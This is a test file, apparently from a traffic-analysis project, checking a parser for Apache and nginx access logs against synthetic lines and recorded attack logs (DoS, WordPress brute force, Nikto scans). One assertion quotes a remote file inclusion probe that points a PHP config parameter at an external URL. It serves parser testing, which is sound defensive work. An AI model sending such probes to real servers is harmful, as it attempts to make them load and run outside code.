"""Combined/common access log parsing: units, hypothesis, and the real shared logs."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.procs import require_shared_data
from traffic.combined_log import LogReader, LogRecord, ParseError, parse_line, parse_timestamp

COMBINED = (
    '203.0.113.7 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif?a=1&b=%20 HTTP/1.0" 200 2326 '
    '"http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"'
)


def test_combined_line_all_fields() -> None:
    rec = parse_line(COMBINED + "\n")
    assert rec == LogRecord(
        client_ip="203.0.113.7",
        ident=None,
        user="frank",
        timestamp=datetime(2000, 10, 10, 20, 55, 36, tzinfo=UTC),
        method="GET",
        target="/apache_pb.gif?a=1&b=%20",
        protocol="HTTP/1.0",
        status=200,
        bytes_sent=2326,
        referer="http://www.example.com/start.html",
        user_agent="Mozilla/4.08 [en] (Win98; I ;Nav)",
    )
    assert (rec.path, rec.query) == ("/apache_pb.gif", "a=1&b=%20")
    assert rec.timestamp.utcoffset() is not None


def test_common_format_has_no_referer_or_agent() -> None:
    rec = parse_line('::1 - - [29/Sep/2021:12:37:05 +0000] "HEAD / HTTP/1.1" 304 -')
    assert (rec.client_ip, rec.method, rec.status, rec.bytes_sent) == ("::1", "HEAD", 304, 0)
    assert rec.referer is None and rec.user_agent is None


def test_escaped_quotes_stay_inside_fields() -> None:
    rec = parse_line(
        r'1.2.3.4 - - [10/Oct/2000:13:55:36 +0000] "GET /a?c[\\\"x\\\"]=1 HTTP/1.1" 404 196 '
        r'"-" "bot \"quoted\" \\ end"'
    )
    assert rec.target == r"/a?c[\\\"x\\\"]=1"
    assert rec.user_agent == r"bot \"quoted\" \\ end"
    assert rec.referer is None


def test_trailing_fields_after_user_agent_are_ignored() -> None:
    rec = parse_line(COMBINED + ' "198.51.100.1" rt=0.003')
    assert rec.user_agent == "Mozilla/4.08 [en] (Win98; I ;Nav)"


def test_syslog_prefix_is_skipped() -> None:
    line = (
        "Sep 15 16:13:46 ip-172-31-43-28.us-east-2.compute.internal nginx[2869]: 81.150.104.130 - - "
        '[15/Sep/2021:16:13:46 +0000] "POST /wp-login.php HTTP/1.1" 200 5364 "-" "Firefox/64.0"'
    )
    rec = parse_line(line)
    assert (rec.client_ip, rec.method, rec.target, rec.status) == (
        "81.150.104.130",
        "POST",
        "/wp-login.php",
        200,
    )
    iso = "2021-09-15T16:13:46.123+02:00 web1 nginx: " + COMBINED
    assert parse_line(iso).client_ip == "203.0.113.7"


def test_ipv4_mapped_and_ipv6_clients_are_canonical() -> None:
    assert parse_line(COMBINED.replace("203.0.113.7", "2001:DB8::1")).client_ip == "2001:db8::1"


@pytest.mark.parametrize(
    ("text", "utc"),
    [
        ("10/Oct/2023:11:06:56 +0200", datetime(2023, 10, 10, 9, 6, 56, tzinfo=UTC)),
        ("31/Dec/2020:23:30:00 -0130", datetime(2021, 1, 1, 1, 0, 0, tzinfo=UTC)),
        ("01/jan/2021:00:15:00 +0545", datetime(2020, 12, 31, 18, 30, 0, tzinfo=UTC)),
    ],
)
def test_timestamps_convert_to_utc(text: str, utc: datetime) -> None:
    got = parse_timestamp(text)
    assert got == utc
    assert got.tzinfo is UTC


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("", "empty line"),
        ("   \t ", "empty line"),
        ("\x00\x01\xff garbage \x7f", "binary data"),
        ('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 12 "-" "Mozil', "truncated"),
        ('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTT', "truncated: request"),
        ("1.2.3.4 - - [10/Oct/2000:13:5", "truncated: timestamp"),
        ('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "-" 408 0 "-" "-"', "request field is '-'"),
        ('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET /a b HTTP/1.1" 200 1', "METHOD TARGET PROTOCOL"),
        ('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "\\x16\\x03\\x01" 400 0', "METHOD TARGET PROTOCOL"),
        ('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / FTP/1.0" 200 1', "protocol"),
        ('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "G(T / HTTP/1.0" 200 1', "method"),
        ('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 2OO 1', "status"),
        ('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 999 1', "status"),
        ('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 1k', "bytes"),
        ('host.example - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 1', "not an IP"),
        ('1.2.3.4 - - [31/Feb/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 1', "timestamp"),
        ('1.2.3.4 - - [10/Foo/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 1', "month"),
        ('1.2.3.4 - - [10/Oct/2000 13:55:36] "GET / HTTP/1.0" 200 1', "timestamp"),
        ('2021/09/30 09:23:53 [error] 19#19: *17 user "foo" was not found, client: 127.0.0.1', "start"),
    ],
)
def test_unparsable_lines_say_why(line: str, reason: str) -> None:
    with pytest.raises(ParseError) as info:
        parse_line(line)
    assert reason in info.value.reason


@given(st.text(max_size=400))
def test_arbitrary_text_only_ever_raises_parse_error(line: str) -> None:
    try:
        rec = parse_line(line)
    except ParseError as exc:
        assert exc.reason
        return
    assert 100 <= rec.status <= 599
    assert rec.timestamp.tzinfo is UTC


_token = st.text(
    st.characters(min_codepoint=0x21, max_codepoint=0x7E, exclude_characters='"\\[]'), min_size=1
)


@given(
    ip=st.ip_addresses().map(str),
    method=st.sampled_from(["GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "PATCH"]),
    target=_token.map(lambda t: "/" + t),
    status=st.integers(100, 599),
    size=st.one_of(st.integers(0, 10**12), st.just(-1)),
    ts=st.datetimes(min_value=datetime(1971, 1, 1), max_value=datetime(2200, 1, 1), timezones=st.just(UTC)),
    agent=st.text(
        st.characters(min_codepoint=0x20, max_codepoint=0x7E, exclude_characters='"\\'), max_size=60
    ),
)
def test_written_lines_parse_back(
    ip: str, method: str, target: str, status: int, size: int, ts: datetime, agent: str
) -> None:
    size_text = "-" if size < 0 else str(size)
    line = (
        f'{ip} - - [{ts.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "{method} {target} HTTP/1.1" '
        f'{status} {size_text} "-" "{agent}"'
    )
    rec = parse_line(line)
    assert (rec.method, rec.target, rec.status) == (method, target, status)
    assert rec.bytes_sent == max(size, 0)
    assert rec.timestamp == ts.replace(microsecond=0)
    assert rec.user_agent == (None if agent == "-" else agent)


def test_reader_yields_line_numbers_and_counts(tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.write_bytes(
        (COMBINED + "\n").encode()
        + b"\n"
        + b"\xff\xfe not utf-8 at all\n"
        + (COMBINED.replace("GET", "POST") + "\r\n").encode()
        + b'1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "-" 400 0'  # no final newline
    )
    reader = LogReader(log, keep_errors=2)
    results = list(reader)
    assert [n for n, _ in results] == [1, 2, 3, 4, 5]
    assert [type(r).__name__ for _, r in results] == [
        "LogRecord", "ParseError", "ParseError", "LogRecord", "ParseError"
    ]  # fmt: skip
    assert (reader.lines, reader.parsed, reader.unparsed) == (5, 2, 3)
    assert [(e.line_no, e.reason) for e in reader.first_errors] == [
        (2, "empty line"),
        (3, "binary data: control characters or invalid UTF-8"),
    ]


def test_the_2015_apache_log() -> None:
    reader = LogReader(require_shared_data("access-logs/apache_logs_2015.log"))
    records = [r for _, r in reader if isinstance(r, LogRecord)]
    assert (reader.lines, reader.parsed, reader.unparsed) == (10_000, 9_999, 1)
    # Line 8899 was cut off inside its user agent.
    assert reader.first_errors[0].line_no == 8899
    assert "truncated" in reader.first_errors[0].reason
    first = records[0]
    assert first.client_ip == "83.149.9.216"
    assert first.timestamp == datetime(2015, 5, 17, 10, 5, 3, tzinfo=UTC)
    assert first.target == "/presentations/logstash-monitorama-2013/images/kibana-search.png"
    assert (first.status, first.bytes_sent) == (200, 203023)
    statuses = {r.status for r in records}
    assert statuses == {200, 206, 301, 304, 403, 404, 416, 500}
    assert sum(r.method == "HEAD" for r in records) == 42
    assert max(r.bytes_sent for r in records) == 69_192_717
    assert len({r.client_ip for r in records}) == 1_753


def test_attack_logs_carry_offsets_that_become_utc() -> None:
    log = require_shared_data("attack-logs/http-dos-random-uri/http_dos_random_uri.log")
    reader = LogReader(log)
    records = [r for _, r in reader if isinstance(r, LogRecord)]
    assert reader.unparsed == 0 and len(records) == 66
    # Logged as 10/Oct/2023:11:06:56 +0200.
    assert records[0].timestamp == datetime(2023, 10, 10, 9, 6, 56, tzinfo=UTC)
    assert records[0].target == "/NGUHGC" and records[0].status == 404


def test_attack_log_with_syslog_prefix_and_a_blank_last_line() -> None:
    reader = LogReader(require_shared_data("attack-logs/http-bf-wordpress-bf/http-bf-wordpress-bf.log"))
    records = [r for _, r in reader if isinstance(r, LogRecord)]
    assert {r.client_ip for r in records} == {"81.150.104.130"}
    assert {(r.method, r.path) for r in records} == {("POST", "/wp-login.php")}
    assert (reader.parsed, reader.unparsed) == (9, 1)
    assert reader.first_errors[0].reason == "empty line"


def test_nikto_probing_log_keeps_escapes_and_rejects_spaced_targets() -> None:
    reader = LogReader(require_shared_data("attack-logs/apache-http-probing/apache-http-probing.log"))
    records = {n: r for n, r in reader if isinstance(r, LogRecord)}
    assert (reader.parsed, reader.unparsed) == (75, 2)
    assert [e.line_no for e in reader.first_errors] == [15, 16]
    assert all("METHOD TARGET PROTOCOL" in e.reason or "protocol" in e.reason for e in reader.first_errors)
    assert records[45].target == r"/sys/code/box.inc.php?config[\\\"sipssys\\\"]=http://cirt.net/rfiinc.txt?"


def test_nginx_error_logs_are_not_access_logs() -> None:
    reader = LogReader(
        require_shared_data("attack-logs/nginx_req_limit_exceeded/nginx_req_limit_exceeded.log")
    )
    assert list(reader)
    assert (reader.parsed, reader.unparsed) == (0, 9)
